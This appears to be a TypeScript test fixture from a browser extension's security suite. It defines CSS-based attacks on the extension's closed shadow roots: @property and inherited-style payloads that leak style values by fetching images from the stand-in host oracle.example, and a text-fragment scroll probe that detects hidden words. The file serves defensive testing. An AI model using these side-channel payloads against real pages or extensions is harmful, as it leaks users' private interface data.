import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Attack } from './attack.ts';

// Attacks by what reaches from a page's style sheets into closed roots.
// Their functions are sent to the page as text.

/** Every name that our styles read a value by: a page can register each, and give it a value. */
const NAMES = new Set(
  globSync(join(import.meta.dirname, '../../../lib/{page,sites}/**/*.{css,ts}')).flatMap((path) =>
    [...readFileSync(path, 'utf8').matchAll(/var\((--[\w-]+)/g)].map(([, name]) => name as string),
  ),
);

/** An image whose address tells the page's server that it was fetched. */
const image = (name: string): string => `url("https://oracle.example/oracle/${name}")`;

/** Each name, registered as an image that is fetched where it is drawn: https://drafts.css-houdini.org/css-properties-values-api/ */
const REGISTERED = [...NAMES]
  .map((name) => `@property ${name} { syntax: "<image>"; inherits: false; initial-value: ${image(name.slice(2))} }`)
  .join('\n');

/** What elements inherit, and what rules of a page name for all to use. */
const LENT = `* { list-style: ${image('list')}; cursor: ${image('cursor')}, auto; border-image: ${image('border')} 1; mask-image: ${image('mask')};
  quotes: "long quotes" "long quotes"; zoom: 1.1; text-size-adjust: 300%; text-indent: 20px; word-spacing: 9px; tab-size: 40; hyphens: auto;
  font-palette: --lent; counter-increment: list-item 7; text-emphasis: "wide"; line-break: anywhere; writing-mode: horizontal-tb }
@font-palette-values --lent { font-family: system-ui; base-palette: 1 }
@counter-style disc { system: cyclic; symbols: ${image('counter')}; suffix: "wide" }
@counter-style decimal { system: cyclic; symbols: "wide wide"; suffix: "wide" }
@position-try --lent { inset: 0; inline-size: 900px }
@keyframes spin { to { rotate: 1turn } }`;

export const BORROWING: Attack[] = [
  {
    name: 'registers every name of ours as an image, and lends what is inherited',
    kind: 'compares',
    leak: 'an image by name',
    alone: true,
    style: REGISTERED + LENT,
    // A browser that fetched an image once may never ask for it again: each page has addresses of its own.
    prepare: () => {
      const style = document.querySelector('style') as HTMLStyleElement;
      style.textContent = style.textContent.replaceAll('.example/', `.example/${location.host}${location.search}/`.replace('?', '/'));
    },
    person: async ({ hover, pause }) => {
      await hover('tags');
      await pause(150);
    },
    look: () =>
      [...document.querySelectorAll('papermarks-strip')].map((strip) => {
        const { width, height } = strip.getBoundingClientRect();
        return [width, height, strip.scrollWidth, strip.scrollHeight];
      }),
  },
  {
    name: 'looks for words by where a link to them leads',
    kind: 'reads',
    leak: 'text in the page',
    // The strip is near the view, so that it has its insides, and not in it.
    style: 'body { padding-block-start: 105vh }',
    // A page may send a person to words only once they did something.
    person: ({ press }) => press('y'),
    look: async () => {
      const found: string[] = [];
      for (const word of ['qzvexwup', 'Skipped', 'Add']) {
        scrollTo(0, 0);
        location.hash = `:~:text=${word}`;
        await new Promise((resolve) => setTimeout(resolve, 200));
        if (scrollY > 0) found.push(`scrolled to ${word}`);
      }
      return found;
    },
    betrays: ['scrolled to'],
  },
];
